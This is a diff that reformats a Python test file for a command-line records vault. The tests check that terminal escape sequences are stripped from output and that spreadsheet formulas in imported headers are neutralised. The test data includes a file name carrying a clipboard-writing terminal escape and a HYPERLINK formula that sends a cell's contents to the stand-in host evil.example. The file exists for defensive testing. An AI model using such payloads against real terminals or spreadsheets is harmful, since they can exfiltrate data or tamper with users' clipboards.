@@ -38,7 +38,9 @@ def secret(tmp_path: Path) -> Path:
 
 
 def steers(text: str) -> bool:
-    return any((ord(sign) < 0x20 and sign not in "\n\t") or 0x7F <= ord(sign) < 0xA0 for sign in text)
+    return any(
+        (ord(sign) < 0x20 and sign not in "\n\t") or 0x7F <= ord(sign) < 0xA0 for sign in text
+    )
 
 
 @given(st.text())
@@ -59,10 +61,25 @@ def test_a_direction_that_steers_is_printed_without_that(
         row.text, row.due_on = f"Visit{STEERING}", date(2026, 1, 5)
         session.add(row)
 
-    store = open_store(demo_path, unlock(demo_path, passphrase=PASSPHRASE, ask=lambda _why: None).key)
+    store = open_store(
+        demo_path, unlock(demo_path, passphrase=PASSPHRASE, ask=lambda _why: None).key
+    )
     store.run(write)
     store.close()
-    assert main(["--vault", str(demo_path), "--passphrase-file", str(secret), "due", "--as-of", "2026-03-02"]) == 0
+    assert (
+        main(
+            [
+                "--vault",
+                str(demo_path),
+                "--passphrase-file",
+                str(secret),
+                "due",
+                "--as-of",
+                "2026-03-02",
+            ]
+        )
+        == 0
+    )
     out, err = capfd.readouterr()
     assert "Visit" in out
     assert not steers(out + err)
@@ -70,7 +87,11 @@ def test_a_direction_that_steers_is_printed_without_that(
 
 @pytest.mark.parametrize("words", [["rollup"], ["import", "annex-a"], ["themes", "check"]])
 def test_the_name_of_a_file_is_printed_without_what_steers(
-    words: list[str], tmp_path: Path, demo_path: Path, secret: Path, capfd: pytest.CaptureFixture[str]
+    words: list[str],
+    tmp_path: Path,
+    demo_path: Path,
+    secret: Path,
+    capfd: pytest.CaptureFixture[str],
 ) -> None:
     odd = tmp_path / "odd\x1b]52;c;aGk=\x07\x9b2J.json"
     odd.write_text(json.dumps({"schema": f"{STEERING}x"}))
@@ -81,11 +102,25 @@ def test_the_name_of_a_file_is_printed_without_what_steers(
     assert not steers(out + err)
 
 
-def test_a_formula_in_a_senders_header_is_made_harmless(demo_path: Path, secret: Path, tmp_path: Path) -> None:
+def test_a_formula_in_a_senders_header_is_made_harmless(
+    demo_path: Path, secret: Path, tmp_path: Path
+) -> None:
     header = [*LIST_6[:-3], *LIST_6[-3:], '=HYPERLINK("http://evil.example/?"&C2,"x")']
     wrong = [*child("1001", "banana"), "x"]
-    workbook, rejects = book(tmp_path / "a.xlsx", {"List 6": [header, wrong]}), tmp_path / "rejects.csv"
-    words = ["import", "annex-a", str(workbook), "--yes", "--rejects", str(rejects), "--as-of", "2026-03-02"]
+    workbook, rejects = (
+        book(tmp_path / "a.xlsx", {"List 6": [header, wrong]}),
+        tmp_path / "rejects.csv",
+    )
+    words = [
+        "import",
+        "annex-a",
+        str(workbook),
+        "--yes",
+        "--rejects",
+        str(rejects),
+        "--as-of",
+        "2026-03-02",
+    ]
     main(["--vault", str(demo_path), "--passphrase-file", str(secret), *words])
     first = rejects.read_text("utf-8-sig").splitlines()[0]
     assert "HYPERLINK" in first
@@ -98,8 +133,27 @@ def test_a_roll_up_never_writes_over_the_vault_or_over_what_it_reads(
     write_all(tmp_path, summary(1, (date(2026, 1, 1), date(2026, 1, 31)), {"sessions.held": 8}))
     read = next(tmp_path.glob("T-*.json"))
     before = demo_path.read_bytes(), read.read_bytes()
-    assert main(["--vault", str(demo_path), "rollup", str(read), "--format", "json", "--out", str(demo_path)]) == 1
-    assert main(["--vault", str(demo_path), "rollup", str(read), "--format", "json", "--out", str(read)]) == 1
+    assert (
+        main(
+            [
+                "--vault",
+                str(demo_path),
+                "rollup",
+                str(read),
+                "--format",
+                "json",
+                "--out",
+                str(demo_path),
+            ]
+        )
+        == 1
+    )
+    assert (
+        main(
+            ["--vault", str(demo_path), "rollup", str(read), "--format", "json", "--out", str(read)]
+        )
+        == 1
+    )
     assert (demo_path.read_bytes(), read.read_bytes()) == before
     assert "name another file" in capfd.readouterr().err
 
